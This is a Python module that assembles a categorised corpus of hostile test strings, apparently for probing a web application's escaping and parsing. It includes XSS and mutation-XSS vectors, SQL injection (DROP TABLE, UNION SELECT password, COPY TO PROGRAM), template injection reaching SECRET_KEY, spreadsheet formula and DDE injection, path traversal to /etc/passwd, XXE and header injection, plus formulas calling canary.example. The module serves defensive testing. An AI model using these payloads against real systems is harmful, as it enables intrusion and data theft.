"""What is sent: texts that break programs, by category, each category with why it is here.

Vectors would call ``canary()``, make an element ``<x-canary>`` or carry ``data-canary``: what the judge finds
of these on a page came from outside. Sources: OWASP's cheat sheets (XSS filter evasion, CSV injection, path
traversal), the Big List of Naughty Strings, and Unicode's security considerations (UTR 36, UTS 39).
"""

from dataclasses import dataclass
from itertools import count
from urllib.parse import quote, unquote_plus

WHY = {
    "markup": "becomes elements or attributes of a page, if any place forgets to escape",
    "script": "leaves a string, a comment or a block of data inside a script or a style",
    "reparsed": "harmless as text, and an element once a browser parsed and wrote it again (mXSS)",
    "address": "runs when it stands where a link belongs",
    "prose": "markdown whose links, pictures, HTML or depth would be more than words",
    "sql": "leaves a string of SQL on either database",
    "search": "means something to LIKE, to full-text search or to string formatting in SQL",
    "template": "is evaluated where text is taken for a template or a format",
    "formula": "a spreadsheet would calculate, or start a program",
    "path": "leads out of a folder, or is a device or a stream on Windows",
    "header": "ends a header or a line of mail and begins another",
    "direction": "turns round what is read, in itself or in what stands beside it",
    "normal form": "looks like another text, or changes its length when it is brought into one form",
    "characters": "no text can hold it: halves of characters, NUL, controls, non-characters",
    "number": "is no number of ours, or one that takes for ever to read",
    "date": "is no day, or one that not every program can hold",
    "structure": "JSON, lists or tables of a depth or kind that nobody expects",
    "length": "longer than a field, a line, a cell or an address",
    "bytes": "is not UTF-8, or not what percent signs promise",
}


@dataclass(frozen=True)
class Entry:
    """One hostile text; ``raw`` is how it arrives in an address or in a form."""

    category: str
    text: str
    raw: str

    @property
    def arrives(self):
        """Return the text that is left of it once it was decoded: halves of characters were replaced."""
        return unquote_plus(self.raw, errors="replace")

    def __str__(self):
        shown = self.text if len(self.text) <= 40 else f"{self.text[:40]}… ({len(self.text):,})"
        return f"{self.category} {shown!a}"


TEXTS = {
    "markup": [
        "<x-canary data-canary>markup</x-canary><script>canary()</script>",
        '"><img src=x onerror=canary()>',
        "' autofocus onfocus=canary() data-canary='",
        '" style="position:fixed" data-canary="',
        "<svg/onload=canary()><animate onbegin=canary() attributeName=x dur=1s>",
        "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
        '<base href="https://canary.example/"><form action="https://canary.example/"><input name=x>',
        '<meta http-equiv="refresh" content="0;url=javascript:canary()">',
        "</textarea></select></option></title><x-canary data-canary>",
        "&lt;x-canary&gt; &amp;lt; &#60;x-canary&#62; &quot;",
        "<b>bold</b><i>italic</i><a href='javascript:canary()'>a chart's label</a>",
    ],
    "script": [
        "</script><script>canary()</script>",
        "<!--<script>\u2028canary()\u2029-->",
        "';canary();//\\';canary();//\";canary();//`${canary()}`",
        "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
        "</style><x-canary>{}*{background:url(javascript:canary())}expression(canary())",
        "]]><x-canary/>?>",
        '{"__proto__":{"canary":1},"constructor":{"prototype":{"canary":1}}}',
    ],
    "reparsed": [
        '<noscript><p title="</noscript><img src=x onerror=canary()>">',
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=canary()&gt;'",
        '<svg></p><style><a id="</style><img src=1 onerror=canary()>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
        "<\x0bscript>canary()</script\x0c><scr\x00ipt>",
        "＜x-canary＞＂＇",
    ],
    "address": [
        "javascript:canary()",
        "JaVa\tScRiPt\n:canary()",
        "data:text/html,<script>canary()</script>",
        "vbscript:canary()",
        "//canary.example/%2f..",
        "https:canary.example",
        "/\\canary.example",
        "https://testserver@canary.example/",
        "https://canary.example\\@testserver/",
        "\x01javascript:canary()",
    ],
    "prose": [
        "[canary](javascript:canary()) ![x](x 'onerror=canary()') <javascript:canary()>",
        "[canary]: javascript:canary()\n[canary]\n\n```html\n<x-canary>\n```\n\n    <x-canary>",
        "<div>\n\n*not* raw\n\n</div>\n# [x](data:text/html,canary)\n| a | b |\n|-|-|\n",
        "> " * 300 + "deep",
        "- " * 300 + "deep",
        "*_" * 3_000,
        "\\" * 999 + "*",
        "1. a\n99999999999. b\n0. c\n" + "#" * 40 + " heading",
    ],
    "sql": [
        "'; DROP TABLE evaluations_finding; --",
        "' OR '1'='1' /*",
        '" OR ""="',
        "') UNION SELECT password FROM auth_user --",
        "\\'; SELECT pg_sleep(9); --",
        "1; ATTACH DATABASE '/tmp/canary' AS x; PRAGMA writable_schema=1",
        "$$; COPY (SELECT '') TO PROGRAM 'touch /tmp/canary'; $$",
        "0x27 || chr(39) || char(39) || 'a' COLLATE nocase",
    ],
    "search": [
        "%",
        "_",
        "\\",
        "%_%\\%' ESCAPE '!",
        "& | ! ( <-> :* ) '",
        '"unclosed NEAR(a b) * OR NOT ^',
        "%s %(name)s %d %%",
        "? :name @name $1 {0}",
        "ab " * 66,
        "[a-z]{1,9999}(a+)+$",
    ],
    "template": [
        "{{ 7|add:7 }} {{ request.user.password }} {{ settings.SECRET_KEY }}",
        "{% debug %}{% include 'base.html' %}{% load static %}{# no #}",
        "${7*7} #{7*7} <%= 7*7 %> *{7*7} [[7*7]]",
        "{0.__class__.__init__.__globals__} {self} {:>9999999}",
        "%(password)s %n%s%x {{constructor.constructor('canary()')()}}",
    ],
    "formula": [
        "=1+1",
        "+44 115 496 0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        " =1+1",
        "\u200b=1+1",
        '=HYPERLINK("https://canary.example/"&A1,"canary")',
        "=WEBSERVICE('https://canary.example/')",
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        "'=1+1",
        '",=1+1,"',
        "{=SUM(A1)}",
    ],
    "path": [
        "../../../../etc/passwd",
        "..%2f..%2f..%252fetc%252fpasswd",
        "..\\..\\windows\\win.ini",
        "\\\\canary.example\\share\\x",
        "CON",
        "aux.xlsx",
        "a:stream.csv",
        "file:///etc/passwd",
        "x/../../y.html%00.docx",
        ".htaccess",
        "…/..;/.",
    ],
    "header": [
        "x\r\nSet-Cookie: canary=1\r\n\r\n<x-canary>",
        "x\nBcc: canary@canary.example\n",
        "canary@canary.example\r\nBcc: other@canary.example",
        '"\r\n X-Canary: 1; filename="canary.exe',
        "a" * 600 + "\r\n",
        "=?utf-8?q?=0d=0aBcc:_canary@canary.example?=",
    ],
    "direction": [
        "\u202eturned round\u202c and \u202aback\u202c",
        "never closed \u202e",
        "\u2066isolated \u2067never closed",
        "\u2069\u202c closed and never opened",
        "\u200fmarks\u200e \u061cof letters",
        "invoice\u202excod.exe",
        "שלום (hello) \u05d0\u05d1\u05d2 123",
    ],
    "normal form": [
        "Cafe\u0301 Zu\u0308rich A\u030angstro\u0308m",
        "\u212bngstr\u00f6m \ufb01nding \u2460 \u00bd \uff21\uff22\uff23",
        "\u0958" * 150,
        "ﷺ" * 90 + "\u1f82" * 90,
        "zero\u200bwidth\u200c\u200d\u2060\ufeff\u00adjoined",
        "Z" + "\u0351\u0352\u0323" * 9 + "algo",
        "Z" + "\u0315\u0300\u0327" * 30_000,
        "👩‍👩‍👧‍👦" + "\u200d👩" * 200,
        "🇬🇧🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "ıİſKÅß ŉ ǰ ΐ",
        "Еvеlyn pаypаl ΑΒ",
        "\u1100\u1161\u11a8" * 50,
    ],
    "characters": [
        "before\x00after",
        "\x00",
        "\x01\x08\x0b\x0c\x1b[31m\x7f\x85\x9f",
        "\ufffe\uffff\U0010ffff\ufdd0",
        "\ue000\U000f0000",
        "\ufffd\ufffc\ufff9a\ufffab\ufffb",
        "half \ud83d",
        "\udc00\ud800",
        "\u2028\u2029\u00a0\u3000\u180e",
        "one\r\ntwo\rthree\n\n\nfour\x1d",
        "   \t\r\n \u200b ",
    ],
    "number": [
        "-1",
        "0",
        "-0",
        "1e400",
        "1e5",
        "NaN",
        "Infinity",
        "-inf",
        "9" * 20,
        "9" * 5_000,
        "2147483648",
        "9223372036854775808",
        "٣",
        "²",
        "１２",
        "1_000",
        "0x10",
        "1,5",
        "+1",
        "1.5",
        "Ⅷ",
        "৪",
    ],
    "date": [
        "31/02/2024",
        "01/01/0001",
        "31/12/9999",
        "1 January 10000",
        "٣١/١٢/٢٠٢٤",
        "2024-13-45T99:99",
        "0000-00-00",
        "١ May 2024",
        "today",
        "31/12/2199",
    ],
    "structure": [
        "[" * 100_000,
        '{"a":' * 5_000 + "1" + "}" * 5_000,
        "[]",
        "{}",
        "null",
        "true",
        '["a",{"b":[null,1e999]}]',
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "a,b@earlier,,@@,a@",
        "1.1.1",
        "1." + "9" * 400,
        "name:41:front:abc:::",
    ],
    "length": [
        "longword" * 400,
        "a" * 256,
        "a" * 20_001,
        "a" * 100_001,
        "\U0001f30a" * 17_000,
        "line\n" * 20_000,
        " " * 5_000 + "x",
    ],
}
RAW = {
    "bytes": [
        "%FF%FE%00",
        "%C0%AE%C0%AE/",
        "%ED%A0%BD%ED%B8%80",
        "%F4%90%80%80",
        "caf%E9",
        "%",
        "%zz%u202e%2",
        "%C3",
        "+ACI-+AD4-",
        "%00%0d%0aX-Canary:%201",
    ],
}


def _entries():
    for category in WHY:
        for text in TEXTS.get(category, ()):
            yield Entry(category, text, quote(text, safe="", errors="surrogatepass"))
        for raw in RAW.get(category, ()):
            yield Entry(category, raw, raw)  # shown as it is sent


CORPUS = tuple(_entries())
# In turn one of each category, so that any stretch as long as the list of categories meets them all.
_order = {category: count() for category in WHY}
IN_TURN = tuple(sorted(CORPUS, key=lambda entry: next(_order[entry.category])))


def short(entries=IN_TURN, *, longest=2_000):
    """Return the entries that an address can hold: servers refuse longer ones before they reach us."""
    return tuple(entry for entry in entries if len(entry.raw) <= longest)
